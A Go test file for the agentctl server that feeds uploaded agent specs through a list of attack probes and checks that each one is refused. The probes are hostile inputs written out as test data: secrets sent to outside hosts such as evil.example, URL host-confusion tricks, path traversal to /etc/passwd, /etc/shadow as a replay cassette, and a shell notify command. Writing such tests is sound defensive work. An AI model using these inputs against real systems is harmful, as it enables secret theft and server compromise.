package server

import (
	"strings"
	"testing"

	"github.com/agentctl/agentctl/spec"
)

// uploadConfig lets uploads use every toolkit, some hosts, one variable
// and one root: what is left is what the checks themselves hold.
const uploadConfig = testRoles + `
slack:
  signingSecret: "${{ env.SLACK_SIGNING_SECRET }}"
  botToken: "${{ env.SLACK_BOT_TOKEN }}"
notify:
  - on: [approval]
    webhook: {url: "${{ env.HOOK_URL }}", secret: "${{ env.HOOK_SECRET }}"}
uploads:
  toolkits: [output, http, exec, file, mcp]
  hosts: [status.example.com, "*.corp.example", "10.0.0.5:8443", "::1"]
  env: [STATUS_TOKEN]
  roots: [/srv/up]
`

// An attack on the uploads boundary: each spec tries one way past it.
// Those with a want are refused with it; the others pass.
func TestUploadProbes(t *testing.T) {
	e := newEnv(t, uploadConfig)
	m := "version: 1\nmodels: {m: {provider: scripted, turns: [{text: hi}]}}\n"
	tool := func(body string) string {
		return m + "tools:\n  t:\n    input: {type: object}\n" + body + "agents: {a: {model: m, tools: [t]}}\n"
	}
	server := func(body string) string {
		return m + "tools:\n  t:\n" + body + "agents: {a: {model: m, tools: [t]}}\n"
	}
	probes := []struct{ name, spec, want string }{
		{"secret in output", tool("    output: \"${{ env.SLACK_BOT_TOKEN }}\"\n"), "a secret of agentctl serve (slack.botToken)"},
		{"secret inherited by exec", tool("    exec: {command: [env], inheritEnv: [SLACK_SIGNING_SECRET]}\n"), "(exec.inheritEnv) reads env SLACK_SIGNING_SECRET, a secret"},
		{"secret in exec env", tool("    exec: {command: [env], env: {X: \"${{ env.HOOK_SECRET }}\"}}\n"), "notify[0].webhook.secret"},
		{"secret to an MCP server", server("    mcp: {command: [srv], env: {K: \"${{ env.HOOK_URL }}\"}}\n"), "notify[0].webhook.url"},
		{"secret inherited by MCP", server("    mcp: {command: [srv], inheritEnv: [AGENTCTL_DB]}\n"), "reads env AGENTCTL_DB, a secret of agentctl serve (agentctl's own)"},
		{"database password", tool("    output: \"${{ env.PGPASSWORD }}\"\n"), "PGPASSWORD, a secret"},
		{"trace headers", tool("    output: \"${{ env.OTEL_EXPORTER_OTLP_HEADERS }}\"\n"), "OTEL_EXPORTER_OTLP_HEADERS, a secret"},
		{"client token", tool("    output: \"${{ env.AGENTCTL_TOKEN }}\"\n"), "AGENTCTL_TOKEN, a secret"},
		{"unlisted variable", tool("    output: \"${{ env.HOME }}\"\n"), "reads env HOME, which uploads may not read"},
		{"secret as a model key", "version: 1\nmodels: {m: {provider: openai, model: x, apiKey: \"${{ env.SLACK_BOT_TOKEN }}\"}}\nagents: {a: {model: m}}\n", "model m (apiKey) reads env SLACK_BOT_TOKEN, a secret"},
		{"allowed key to a host of its own", "version: 1\nmodels: {m: {provider: openai, model: x, baseURL: \"https://evil.example/v1\", apiKey: \"${{ env.STATUS_TOKEN }}\"}}\nagents: {a: {model: m}}\n", "model m: https://evil.example/v1 is not a host"},
		{"the provider's default key", "version: 1\nmodels: {m: {provider: openai, model: x, baseURL: \"https://status.example.com/v1\"}}\nagents: {a: {model: m}}\n", "names no apiKey, so it would read env OPENAI_API_KEY"},
		{"the provider's default host", "version: 1\nmodels: {m: {provider: ollama, model: x, apiKey: \"${{ env.STATUS_TOKEN }}\"}}\nagents: {a: {model: m}}\n", "http://localhost:11434/v1 is not a host uploads may reach"},
		{"a relative file root", tool("    file: {op: read, root: ., path: x}\n"), "root .: an upload's file root is absolute"},
		{"a cassette on the server", "version: 1\nmodels: {m: {provider: replay, cassette: /etc/shadow}}\nagents: {a: {model: m}}\n", "the replay provider reads a file on the server"},
		{"host by userinfo", tool("    http: {method: GET, url: \"https://status.example.com@evil.example/x\"}\n"), "load: scheme and host must be written out"},
		{"host as a suffix", tool("    http: {method: GET, url: \"https://status.example.com.evil.example/x\"}\n"), "is not a host uploads may reach"},
		{"wildcard's own domain", tool("    http: {method: GET, url: \"https://corp.example/x\"}\n"), "is not a host uploads may reach"},
		{"wildcard look-alike", tool("    http: {method: GET, url: \"https://evilcorp.example/x\"}\n"), "is not a host uploads may reach"},
		{"wrong port", tool("    http: {method: GET, url: \"https://10.0.0.5:9000/x\"}\n"), "is not a host uploads may reach"},
		{"MCP over HTTP elsewhere", server("    mcp: {url: \"https://evil.example/mcp\"}\n"), "MCP server https://evil.example/mcp is not a host"},
		{"file root outside", tool("    file: {op: read, root: /srv/upload-evil, path: x}\n"), "root /srv/upload-evil is not in a directory"},
		{"file root climbing", tool("    file: {op: read, root: /srv/up/../../etc, path: passwd}\n"), "is not in a directory uploads may use"},
		{"an approver of its own", m + "agents: {a: {model: m, approvers: [mallory]}}\n", "approver mallory is not one"},
		{"a group of its own", m + "agents: {a: {model: m, approvers: [group:wheel]}}\n", "approver group:wheel is not one"},
		{"a delegate of its own", "version: 1\npolicy: {delegates: [ann]}\n" + m[len("version: 1\n"):] + "agents: {a: {model: m}}\n", "policy.delegates: ann is not a delegate"},
		{"a configured name in capitals", m + "agents: {OPS: {model: m}}\n", "named like the configured agent ops"},
		{"a configured tool's name with a dash", "version: 1\nmodels: {m: {provider: scripted, turns: [{text: hi}]}}\ntools: {Re-Start: {input: {type: object}, output: x}}\nagents: {a2: {model: m, tools: [Re-Start]}}\n", "named like the configured tool restart"},
		{"a notify command", m + "agents: {a: {model: m, notify: [{on: [approval], command: [sh, -c, id]}]}}\n", ""},
		{"a webhook elsewhere", m + "agents: {a: {model: m, notify: [{on: [approval], webhook: {url: \"https://evil.example/h\", secret: \"${{ env.STATUS_TOKEN }}\"}}]}}\n", "webhook https://evil.example/h is not a host"},
		{"narrowing to a known approver", m + "agents: {a: {model: m, approvers: [alice, group:sre]}}\n", ""},
		{"a known delegate", "version: 1\npolicy: {delegates: [bot]}\n" + m[len("version: 1\n"):] + "agents: {a: {model: m}}\n", ""},
		{"an allowed host and variable", tool("    http: {method: GET, url: \"https://api.corp.example/x\", headers: {A: \"${{ env.STATUS_TOKEN }}\"}}\n"), ""},
	}
	held := 0
	for _, p := range probes {
		sp, err := spec.Load([]spec.Source{{Name: "spec", Data: []byte(p.spec)}})
		if want, ok := strings.CutPrefix(p.want, "load: "); ok { // the spec's own checks hold it
			if err == nil || !strings.Contains(err.Error(), want) {
				t.Errorf("%s: want the spec refused with %q, got %v", p.name, want, err)
			} else {
				held++
			}
			continue
		}
		if err != nil {
			t.Errorf("%s: the spec does not load: %v", p.name, err)
			continue
		}
		errs := e.srv.uploadProblems(sp)
		got := errs.Error()
		switch {
		case p.want == "" && len(errs) > 0:
			t.Errorf("%s: refused: %s", p.name, got)
		case p.want != "" && !strings.Contains(got, p.want):
			t.Errorf("%s: want a refusal with %q, got %q", p.name, p.want, got)
		default:
			held++
		}
	}
	t.Logf("%d of %d probes held", held, len(probes))
}

func TestAllowsHost(t *testing.T) {
	u := UploadsConfig{Hosts: []string{"Status.Example.com", "*.corp.example", "10.0.0.5:8443", "::1"}}
	for host, want := range map[string]bool{
		"status.example.com": true, "STATUS.EXAMPLE.COM:443": true, "status.example.com.": true,
		"a.corp.example": true, "a.b.corp.example:99": true, "corp.example": false, "xcorp.example": false,
		"10.0.0.5:8443": true, "10.0.0.5": false, "10.0.0.5:80": false, "[::1]:8080": true, "::1": true,
		"status.example.com.evil": false, "": false,
	} {
		if got := u.allowsHost(host); got != want {
			t.Errorf("allowsHost(%q) = %v, want %v", host, got, want)
		}
	}
}
